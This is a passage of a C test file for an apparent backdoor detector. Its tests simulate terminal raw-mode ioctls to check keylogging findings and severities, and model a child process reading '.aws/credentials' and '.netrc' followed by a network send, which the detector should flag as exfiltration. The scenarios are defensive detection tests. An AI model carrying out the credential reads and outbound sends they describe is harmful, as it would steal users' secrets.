		{"tty", 0, "/dev/pts/0", "TCSETSF", 0x3, 2, false, -1},   /* a password prompt */
		{"/dev/null", 3, "/dev/tty", "TCSETS", 0, 3, false, -1},  /* its controlling terminal */
		{"/dev/null", 4, "/dev/pts/1", "TCSETS", 0, 3, true, -1}, /* a pty it made */
		{"/dev/null", 0, "/dev/null", "TCSETS", 0, 3, false, -1}, /* no terminal at all */
		{"/dev/null", 3, "/dev/console", "TCSETS", 0xa3b, 0, false, -1}, /* line mode kept */
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		for (int err = 0; err <= ENOTTY; err += ENOTTY) {
			struct harness *h = harness_new("backdoor", NULL, NULL);
			exec_prog(h, 100, 0.1, "/home/auditor/app/prog", cases[i].stdin_desc, "pipe", NULL);
			if (cases[i].made_pty)
				open_file(h, 100, 0.2, "/dev/ptmx", DA_ACC_READ | DA_ACC_WRITE, 0);
			tty_ioctl(h, 100, 0.3, cases[i].fd, cases[i].term, cases[i].request, cases[i].value,
				  cases[i].raw, err);
			tty_ioctl(h, 100, 0.4, cases[i].fd, cases[i].term, cases[i].request, cases[i].value,
				  cases[i].raw, err); /* once per request and terminal */
			harness_finish(h);
			if (cases[i].severity < 0) {
				cr_expect_eq(harness_count(h, "backdoor.keylogging"), 0, "case %zu", i);
			} else {
				cr_expect_eq(harness_count(h, "backdoor.keylogging"), 1, "case %zu", i);
				const struct harness_finding *f = harness_get(h, "backdoor.keylogging");
				if (f)
					cr_expect_eq(f->severity, cases[i].severity, "case %zu", i);
			}
			harness_free(h);
		}
	}
}

/* A process that closed its stdin and opened the console onto fd 0 does
 * not make the console its own terminal. */
Test(backdoor, console_reopened_on_stdin_is_not_own)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	exec_prog(h, 100, 0.1, "/home/auditor/app/prog", "tty", "tty", NULL);
	struct da_event ev = ev_make(DA_EV_FILE_OPEN, 100, 0.2);
	ev.syscall = "openat";
	ev.path = "/dev/pts/7";
	ev.access = DA_ACC_READ | DA_ACC_WRITE;
	ev.fd = 0;
	ev.result = 0;
	ev.text = "openat(AT_FDCWD, \"/dev/pts/7\", O_RDWR) = 0";
	publish(h, &ev);
	tty_ioctl(h, 100, 0.3, 0, "/dev/pts/7", "TCSETS", 0, 3, 0);
	harness_finish(h);
	const struct harness_finding *f = harness_get(h, "backdoor.keylogging");
	cr_assert_not_null(f);
	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
	harness_free(h);
}

/* The process table reuses the slots of processes that exited (a lookup
 * reads only the slots ever used): after 3,000 short-lived children, a
 * new one's secret read and send are still tracked; with more live
 * processes than the table holds, the rest are counted, never a crash. */
Test(backdoor, process_slots_are_reused_after_exits)
{
	struct harness *h = harness_new("backdoor", NULL, NULL);
	for (int i = 0; i < 3000; i++) {
		fork_child(h, 100, 1000 + i, 0.001 * i);
		struct da_event ev = ev_make(DA_EV_PROC_EXIT, 1000 + i, 0.001 * i + 0.0005);
		ev.ppid = 100;
		publish(h, &ev);
	}
	fork_child(h, 100, 9000, 4.0);
	open_file(h, 9000, 4.1, "/home/auditor/.aws/credentials", DA_ACC_READ, 0);
	send_to(h, 100, 4.2, "127.0.0.1:6000");
	cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 1);
	for (int i = 0; i < 1100; i++)
		fork_child(h, 100, 20000 + i, 5.0);
	open_file(h, 21099, 5.5, "/home/auditor/.netrc", DA_ACC_READ, 0);
	cr_assert_eq(harness_finish(h), 0);
	harness_free(h);
}
